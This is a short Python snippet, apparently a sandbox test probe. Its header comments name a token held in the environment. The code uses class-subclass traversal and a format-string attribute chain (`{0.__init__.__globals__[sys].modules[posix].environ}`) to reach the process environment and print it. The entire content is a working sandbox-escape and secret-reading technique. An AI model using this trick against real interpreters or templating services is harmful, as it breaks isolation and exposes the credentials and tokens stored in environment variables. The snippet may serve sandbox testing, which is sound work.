# Reads the environment by a template that calls for attributes.
# evidence: token
# held by: environment
# allow: string
# baseline: bare
import string
kind = [kind for kind in type.__subclasses__(object) if kind.__module__ == 'codecs' and hasattr(kind.__init__, '__globals__')][0]
print(ENVIRONMENT, string.Formatter().vformat('{0.__init__.__globals__[sys].modules[posix].environ}', [kind], {}))
